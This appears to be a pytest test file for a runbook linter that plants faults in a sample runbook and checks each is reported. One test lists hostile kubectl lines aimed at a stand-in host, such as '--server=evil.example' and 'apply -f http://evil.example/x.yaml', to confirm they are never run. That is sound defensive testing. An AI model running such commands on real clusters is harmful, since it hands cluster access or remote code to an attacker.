"""Every kind of fault that was planted in a runbook is found on its line, and the clean page is quiet."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from console.cli.console_lines import check_line
from console.cli.main import main
from console.lint.finding import Level
from console.lint.runbooks.kubectl import Kubectl, KubectlResult
from console.lint.runbooks.linter import LINT_RULES, RunbookReport, lint_runbooks
from console.runbooks.index import RunbookIndex
from queries.promql.rule_files import read_rules

RULES = """groups:
  - name: g
    rules:
      - alert: HighErrorRate
        expr: sum by (provider) (rate(ocr_errors_total[5m])) > 5
        for: 2m
        labels: {severity: critical, component: platform}
        annotations:
          runbook_url: https://runbooks.cad-ml-platform.internal/runbooks/slow.md
"""
PAGE = """---
title: Everything is slow
alerts: [HighErrorRate]
severity: critical
component: platform
steps:
  - phase: confirm
    title: Is it so?
    query: |-
      sum by (provider)
        (rate(ocr_errors_total{stage="parse"}[5m]))
    unit: per_second
    warn: 1
  - phase: diagnose
    title: Was it a rollout?
    lookup: rollout-history
    target: deployment/ocr-provider-{provider}
  - phase: verify
    title: Is it over?
    query: sum(rate(ocr_errors_total[5m]))
    warn: 1
actions:
  - action: scale
    target: deployment/cad-ml-api
    parameters: {replicas: 5}
  - action: silence
    target: alertname="HighErrorRate"
    parameters: {duration: 1h, comment: known}
escalate:
  - to: platform
    when: not over 15 minutes after the page
---

## What it means

It is slow. See [the other page](other.md), [the rules](../rules.yaml), [this](#first) and https://prometheus.io/docs/.

## Impact

Users wait.

## First

**Was it a rollout?** Roll back. If not, go to `other`.

## Mitigate

1. Roll back: `cad-console act rollback deployment/cad-ml-api --cause "slow"`
2. Look at the pods, and at the page `cad-console runbook other`:

   ```sh
   $ kubectl -n cad-ml-platform get pods -o wide   # who is ill?
   kubectl -n cad-ml-platform logs deployment/cad-ml-api --since=10m 2>/dev/null \\
     | grep ERROR
   ```

## Verify

It is fast for 15 minutes.

## Prevent

Test it.
"""
OTHER = "---\ntitle: The other\n---\nA team's own page, which is plain.\n"

FAULTS = [
    ("runbook-broken", "    unit: per_second", "    unit: parsecs", "expected one of percent"),
    ("alert-without-page", "alerts: [HighErrorRate]", "alerts: []", "no runbook lists it"),
    ("alert-unknown", "alerts: [HighErrorRate]", "alerts: [HighErorRate]", "did you mean HighErrorRate?"),
    ("runbook-differs", "severity: critical", "severity: info", "severity is info, but its rules have critical"),
    ("runbook-differs", "component: platform", "component: ocr", "component is ocr, but its rules have platform"),
    ("runbook-front", "when: not over 15 minutes after the page", "when: some time", "no `when` of escalate names a time"),
    ("runbook-front", "  - phase: diagnose\n", "  - phase: confirm\n", "a confirm step needs a query"),
    ("runbook-front", "    query: sum(rate(ocr_errors_total[5m]))\n    warn: 1", "    query: up", "to tell recovery"),
    ("runbook-section", "## Impact", "## Consequences", "'Consequences' is not part of the house format"),
    ("runbook-section", "Users wait.", "", "section 'Impact' is empty"),
    ("runbook-section", "Test it.", "a\n" * 13, "has 13 lines, more than 12"),
    ("runbook-section", "Test it.", "Test it.\n\n## Impact\n\nAgain.", "appears twice"),
    ("bad-promql", "        (rate(ocr_errors_total{stage=\"parse\"}[5m]))", "        (rate(ocr_errors_total[5m))", "2:"),
    ("metric-not-exported", "query: sum(rate(ocr_errors_total", "query: sum(rate(ocr_eror_total", "did you mean ocr_"),
    ("label-not-carried", "      sum by (provider)", "      sum by (vendor)", "the label vendor is used by"),
    ("matcher-matches-nothing", "{stage=\"parse\"}", "{stage=~\"Pars\"}", "matches none of the known values"),
    ("runbook-action", "  - action: scale", "  - action: scail", "did you mean scale?"),
    ("runbook-action", "{replicas: 5}", "{pods: 5}", "scale has no parameter 'pods'; known: replicas"),
    ("runbook-action", "{duration: 1h, comment: known}", "{duration: 1h}", "silence needs the parameter comment"),
    ("runbook-target", "    target: deployment/cad-ml-api", "    target: pod/x", "expected deployment/NAME"),
    ("runbook-target", "    target: alertname=\"HighErrorRate\"", "    target: '=x'", "invalid matchers"),
    ("runbook-target", "ocr-provider-{provider}", "ocr-provider-{vendor}", "has the label vendor"),
    ("runbook-broken", "    lookup: rollout-history", "    lookup: rollouts", "expected one of rollout-history, top-pods"),
    ("runbook-link", "[the other page](other.md)", "[the other page](othr.md)", "no such runbook: othr.md; did you mean"),
    ("runbook-link", "[the rules](../rules.yaml)", "[the rules](../docs/rules.yaml)", "no such file: ../docs/rules.yaml"),
    ("runbook-link", "[this](#first)", "[this](#fist)", "no such section: #fist; did you mean first?"),
    ("runbook-link", "https://prometheus.io/docs/", "https://prometheus/docs", "is not a URL"),
    ("runbook-link", "go to `other`", "go to `othre`", "no such runbook: othre; did you mean other?"),
    ("runbook-command", "act rollback", "act rolback", "rolback"),
    ("runbook-command", "--cause \"slow\"", "--because slow", "--because"),
    ("runbook-command", "act rollback deployment/cad-ml-api", "act scale cad-ml-api", "scale needs the parameter replicas"),
    ("runbook-command", "`cad-console runbook other`", "`cad-console runbook othr`", "no such runbook: othr"),
    ("runbook-command", "`cad-console runbook other`", "`cad-console runbok other`", "no such command: 'runbok'; did you mean"),
    ("runbook-line", "--cause \"slow\"", "--cause \"slow", "no closing quotation"),
    ("runbook-line", "deployment/cad-ml-api --cause", "deployment/<name> --cause", "a shell reads < as a redirection"),
    ("runbook-line", "--cause \"slow\"", "--cause …", "a part is omitted"),
    ("runbook-kubectl", "get pods", "gett pods", 'kubectl has no command "gett"'),
    ("runbook-kubectl", "get pods -o wide", "get pods --wide", "unknown flag: --wide"),
    ("runbook-kubectl", "get pods", "get podds", "Kubernetes has no resource podds; did you mean pods?"),
    ("runbook-kubectl", "get pods -o wide", "rollout undo deployment/x --to-revision=last", "invalid argument"),
    ("runbook-kubectl", "get pods -o wide", "rollout frobnicate deployment/x", "unknown command"),
    ("runbook-kubectl", "get pods -o wide", "scale deployment/x", '"replicas" not set'),
    ("runbook-kubectl", "get pods", "--server=https://prod.example.com get pods", "--server names a server"),
    ("runbook-unchecked", "get pods -o wide", "apply -f https://example.com/x.yaml", "would read a file or a URL"),
]  # fmt: skip
"""The lint rule, the text to replace in the clean page, its replacement, and a part of the message."""


@pytest.fixture(scope="module", autouse=True)
def _ask_once() -> Iterator[None]:
    """kubectl itself answers each command once: most pages here have the same."""
    answers: dict[tuple[str, ...], KubectlResult] = {}
    ask = Kubectl.validate

    def validate(kubectl: Kubectl, words: Sequence[str]) -> KubectlResult:
        key = (kubectl.path, *words)
        if key not in answers:
            answers[key] = ask(kubectl, words)
        return answers[key]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Kubectl, "validate", validate)
        yield


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "rules.yaml").write_text(RULES)
    pages = tmp_path / "runbooks"
    pages.mkdir()
    (pages / "slow.md").write_text(PAGE)
    (pages / "other.md").write_text(OTHER)
    return pages


def linted(folder: Path, *, rules: str = RULES, shipped: bool = False) -> RunbookReport:
    return run_lint(RunbookIndex.load(folder), rules, built_in=shipped)


def run_lint(index: RunbookIndex, rules: str, *, built_in: bool) -> RunbookReport:
    return lint_runbooks(
        index,
        read_rules(rules, path="rules.yaml").rules,
        check_console=lambda words: check_line(words, index),
        built_in=built_in,
    )


def test_the_clean_page_is_quiet(folder: Path) -> None:
    """A page with one of everything has no finding, and neither has a plain page of a team; both kubectl lines were seen."""
    found = linted(folder)
    assert (found.findings, found.runbooks, found.alerts, found.kubectl_lines) == ((), 2, 1, 2)


def test_a_page_may_serve_the_names_of_older_rules_too(folder: Path) -> None:
    """Beside an alert that the rules raise, another name is no mistake."""
    (folder / "slow.md").write_text(PAGE.replace("alerts: [HighErrorRate]", "alerts: [HighErrorRate, PlatformErrorsHigh]"))
    assert linted(folder).findings == ()


@pytest.mark.parametrize(("trap", "old", "new", "words"), FAULTS, ids=[f"{item[0]}-{item[3][:24]}" for item in FAULTS])
def test_a_planted_fault_is_found_where_it_stands(folder: Path, trap: str, old: str, new: str, words: str) -> None:
    """The fault is told by its name, with the file, a line of what was planted (or of what it belongs to), and what exists
    instead."""
    if trap == "runbook-kubectl" and shutil.which("kubectl") is None:
        pytest.skip("kubectl is not here")
    assert PAGE.count(old) >= 1
    text = PAGE.replace(old, new, 1)
    (folder / "slow.md").write_text(text)
    result = [item for item in linted(folder).findings if item.lint_rule.id == trap and words in item.text]
    assert len(result) == 1, linted(folder).findings
    if result[0].file == "rules.yaml":
        assert result[0].line == 4
        return
    assert result[0].file == str(folder / "slow.md")
    begins = text[: PAGE.index(old)].count("\n") + 1
    assert begins - 2 <= result[0].line <= begins + new.count("\n") + 2, result


@pytest.mark.parametrize(
    ("taken", "words"),
    [
        ("severity: critical\n", "severity is missing"),
        ("component: platform\n", "component is missing"),
        (PAGE[PAGE.index("escalate:") : PAGE.index("---\n\n##")], "escalate is missing: whom to contact, and when"),
        (PAGE[PAGE.index("  - phase: verify") : PAGE.index("actions:")], "no verify step"),
        ("## Prevent\n\nTest it.\n", "section 'Prevent' is missing"),
        ("1. Roll back: ", "section 'Mitigate' is not a numbered list"),
    ],
)  # fmt: skip
def test_a_part_that_is_missing_is_named(folder: Path, taken: str, words: str) -> None:
    """Without a part of the house format the page is told to lack it."""
    (folder / "slow.md").write_text(PAGE.replace(taken, "", 1))
    assert words in [item.text for item in linted(folder).findings]


def test_plain_pages_are_held_to_the_format_only_where_they_are_shipped(folder: Path) -> None:
    """Of the shipped set every page has to have everything; of a team's own a plain one is left alone."""
    own = {item.file for item in linted(folder).findings}
    shipped = {Path(item.file).name for item in linted(folder, shipped=True).findings}
    assert (own, shipped) == (set(), {"other.md"})


def test_the_order_of_phases_is_that_of_the_file(folder: Path) -> None:
    """The loader sorts, so that the lint looks at what was written."""
    first, second = "  - phase: confirm\n", "  - phase: diagnose\n"
    at, to, end = PAGE.index(first), PAGE.index(second), PAGE.index("  - phase: verify\n")
    (folder / "slow.md").write_text(PAGE[:at] + PAGE[to:end] + PAGE[at:to] + PAGE[end:])
    (found,) = linted(folder).findings
    assert (found.text, found.line) == ("a confirm step follows a diagnose step", 11)


@pytest.mark.parametrize(
    ("rules", "trap", "words"),
    [
        (RULES.replace("runbooks/slow.md", "runbooks/gone.md"), "runbook-dead", "no such runbook: gone.md; slow covers"),
        (RULES.replace("runbooks/slow.md", "runbooks/other.md"), "alert-without-page", "leads to other, but slow lists it"),
        (RULES[: RULES.index("        annotations")], "runbook-missing", "has no runbook_url; the runbook slow covers it"),
    ],
)
def test_a_rule_that_leads_elsewhere_is_named(folder: Path, rules: str, trap: str, words: str) -> None:
    """The link of an alert has to lead to the very page that lists it."""
    (found,) = linted(folder, rules=rules).findings
    assert (found.lint_rule.id, found.file, found.rule) == (trap, "rules.yaml", "HighErrorRate")
    assert words in found.text


def test_an_alert_that_two_pages_list_is_named(folder: Path) -> None:
    """The second of them is told, for it is never opened."""
    (folder / "twin.md").write_text("---\ntitle: Twin\nalerts:\n  - HighErrorRate\n---\n")
    (found,) = linted(folder).findings
    assert (found.lint_rule.id, Path(found.file).name, found.line) == ("alert-served-twice", "twin.md", 4)


def test_without_kubectl_it_is_said_what_was_not_checked(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where kubectl is not on PATH, its lines are counted as unchecked, in both formats, and nothing is said to be wrong."""
    monkeypatch.setenv("PATH", "/nonexistent")
    (folder / "other.md").write_text(PAGE.replace("alerts: [HighErrorRate]", "guide: true"))
    index = RunbookIndex.load(folder)
    monkeypatch.setattr("console.cli.runbook.RunbookIndex.from_settings", lambda _: index)
    monkeypatch.setattr("console.config.expected_rules.load_built_in", lambda: (read_rules(RULES, path="rules.yaml"),))
    assert main(["runbook", "--lint"]) == 0
    assert "kubectl is not on PATH: 4 kubectl lines remain unchecked" in capsys.readouterr().out
    assert main(["runbook", "--lint", "--format", "json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert (result["kubectl"], result["kubectl_lines"], result["kubectl_lines_unchecked"]) == ("", 4, 4)


@pytest.mark.parametrize(
    "words",
    [
        "get pods --server=evil.example",
        "get pods -s evil.example",
        "get pods -sevil.example",
        "get pods -Asevil.example",
        "get pods --kubeconfig x",
        "get -n -- --server=evil.example pods",
        "get pods --profile=cpu --profile-output=/tmp/x",
        "apply -f http://evil.example/x.yaml",
        "proxy --port 0",
        "config set-context x",
    ],
)
def test_no_page_can_make_kubectl_reach_or_write_anything(words: str) -> None:
    """A page from elsewhere gets no line run that names a server, writes a file, fetches an address or listens."""
    answer = Kubectl("/bin/false", 1, "/nonexistent").validate(("kubectl", *words.split()))
    assert "names a server" in answer.problem or answer.unchecked.startswith(("kubectl ", "--profile writes")), answer
    assert "cannot be run" not in answer.unchecked


def test_nothing_answers_where_kubectl_asks(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The port is held and refuses; kubectl sees no plugin, no home and no kubeconfig of the person, whatever the verb."""
    if shutil.which("kubectl") is None:
        pytest.skip("kubectl is not here")
    plugin = tmp_path / "kubectl-gett"
    plugin.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    plugin.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "own"))
    with Kubectl.open() as kubectl:
        assert kubectl is not None
        with socket.socket() as other, pytest.raises(OSError):
            other.bind(("127.0.0.1", kubectl.port))
        with socket.socket() as other, pytest.raises(ConnectionRefusedError):
            other.connect(("127.0.0.1", kubectl.port))
        assert kubectl.validate(("kubectl", "gett", "pods")).problem
        assert kubectl.validate(("kubectl", "delete", "pod", "x")) == KubectlResult()
        assert (
            kubectl.validate(("kubectl", "exec", "deploy/x", "--", "curl", "-s", "http://localhost/health")) == KubectlResult()
        )
    assert not (tmp_path / "ran").exists()


def test_every_trap_is_planted() -> None:
    """No kind of finding is without a test that plants it."""
    elsewhere = {"runbook-dead", "runbook-missing", "alert-served-twice"}
    assert {item[0] for item in FAULTS} | elsewhere == {trap.id for trap in LINT_RULES}
    assert all(trap.title and trap.why and trap.fix and trap.level in Level for trap in LINT_RULES)


def test_a_teams_plain_pages_are_held_to_no_house_format(folder: Path, tmp_path: Path) -> None:
    """Nothing is missing in them, and a link that a site generator fills in is not dead; a dead one still is."""
    own = tmp_path / "own"
    own.mkdir()
    (own / "HighErrorRate.md").write_text('# Errors\n\nSee [node]({{< ref "node.md" >}}) or [gone](gone.md).\n')
    found = run_lint(RunbookIndex.load(folder, own=[own]), RULES, built_in=True).findings
    assert [(item.lint_rule.id, item.line) for item in found if item.file.startswith(str(own))] == [("runbook-link", 3)]
    assert "no such runbook: gone.md" in next(item.text for item in found if item.file.startswith(str(own)))
